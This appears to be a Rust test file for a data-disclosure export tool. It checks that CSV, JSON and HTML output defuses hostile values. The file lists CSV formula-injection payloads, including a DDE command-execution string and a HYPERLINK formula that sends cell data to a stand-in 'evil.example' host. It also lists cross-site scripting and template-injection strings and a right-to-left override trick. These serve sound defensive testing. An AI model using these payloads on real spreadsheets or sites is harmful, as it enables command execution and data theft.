//! Values that were made to do harm stay values.

use rightsdesk::domain::disclosure::{Cell, CollectionHead, Record};
use rightsdesk::domain::personal::Personal;

use super::*;

/// Beginnings that a spreadsheet could take for a formula.
const FORMULAS: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1+x",
    "＠SUM(A1)",
    "\u{feff}=1",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
];

/// Ways to smuggle markup or script into a page.
const MARKUP: [&str; 10] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "javascript:alert(1)",
    "&lt;script&gt;",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
];

fn one_column(values: &[&str]) -> InMemory {
    let head = CollectionHead {
        system: "shop".into(),
        collection: "notes".into(),
        title: values[0].into(),
        description: Some(values[0].into()),
        columns: vec![sample::column(values[0], values[0]), sample::column("second", "Second")],
        ..CollectionHead::default()
    };
    let rows = values.iter().map(|value| Record::new(vec![Cell::Text((*value).into()), Cell::Text("x".into())]));
    InMemory { collections: vec![(head, rows.collect())], attachments: Vec::new() }
}

#[test]
fn no_cell_of_a_table_is_a_formula_and_json_stays_exact() {
    let (package, _) = pack(&sample::letter(), &one_column(&FORMULAS));
    let files = unpack(&package);
    let table = files["data/shop-notes.csv"].strip_prefix("\u{feff}".as_bytes()).unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(table);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    for row in &rows {
        assert!(row[0].starts_with('\''), "{:?}", &row[0]);
    }
    let exact: Vec<serde_json::Value> = serde_json::from_slice(&files["data/shop-notes.json"]).unwrap();
    let values: Vec<&str> = exact.iter().map(|row| row[FORMULAS[0]].as_str().unwrap()).collect();
    assert_eq!(values, FORMULAS);
}

#[test]
fn markup_in_every_place_stays_words() {
    for markup in MARKUP {
        let mut letter = sample::letter();
        letter.about.name = Some(Personal::new(markup));
        letter.address = vec![Personal::new(markup)];
        letter.note = vec![Personal::new(markup)];
        letter.controller.brand = markup.into();
        letter.controller.accent = Some(markup.into());
        letter.left_out[0].what = Personal::new(markup);
        letter.searched[0].system = markup.into();
        letter.about.page = markup.into();
        let (package, _) = pack(&letter, &one_column(&MARKUP));
        let page = text_of(&unpack(&package), "index.html");
        let lower = page.to_lowercase();
        for forbidden in ["<script", "<img", "<svg", "<iframe", "<!--", "href=\"javascript", "onerror=alert(1)>"] {
            assert!(!lower.contains(forbidden), "{forbidden} from {markup}");
        }
        assert_eq!(lower.matches("</style>").count(), 1);
        assert_eq!(lower.matches("</title>").count(), 1);
    }
}

#[test]
fn the_page_allows_nothing_but_its_own_style() {
    let (package, _) = pack(&sample::letter(), &sample::contents());
    let page = text_of(&unpack(&package), "index.html");
    let (_, policy) = page.split_once("http-equiv=\"Content-Security-Policy\" content=\"").unwrap();
    let (policy, _) = policy.split_once('"').unwrap();
    let (_, style) = page.split_once("<style>").unwrap();
    let (style, _) = style.split_once("</style>").unwrap();
    let hash = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        <sha2::Sha256 as sha2::Digest>::digest(style.as_bytes()),
    );
    let policy = policy.replace("&#39;", "'");
    assert_eq!(policy, format!("default-src 'none'; style-src 'sha256-{hash}'; base-uri 'none'; form-action 'none'"));
    assert!(!page.contains(" style=") && !page.contains("<link") && !page.contains("src="));
}

#[test]
fn what_would_turn_words_round_is_shown_and_a_huge_value_is_cut_on_the_page_only() {
    let huge = "x".repeat(10_000_000);
    let (package, _) = pack(&sample::letter(), &one_column(&["name", "moc.elgoog\u{202e}", &huge, "nul\0nul"]));
    let files = unpack(&package);
    let page = text_of(&files, "index.html");
    assert!(page.contains("moc.elgoog⟨U+202E⟩") && page.contains("nul␀nul"));
    assert!(page.len() < 100_000);
    assert!(files["data/shop-notes.json"].len() > huge.len() && files["data/shop-notes.csv"].len() > huge.len());
    assert!(text_of(&files, "data/shop-notes.json").contains("nul\\u0000nul"));
}

#[test]
fn links_lead_only_to_files_of_the_package_to_its_parts_and_to_pages_named_in_the_settings() {
    let (package, _) = pack(&sample::letter(), &sample::contents());
    let files = unpack(&package);
    let page = text_of(&files, "index.html");
    for link in page.split("href=\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
        let anchor = link.strip_prefix('#').is_some_and(|id| page.contains(&format!("id=\"{id}\"")));
        let web = link.starts_with("https://ico.org.uk/") || link.starts_with("https://meadow.example/");
        assert!(anchor || web || files.contains_key(link), "{link}");
    }
}
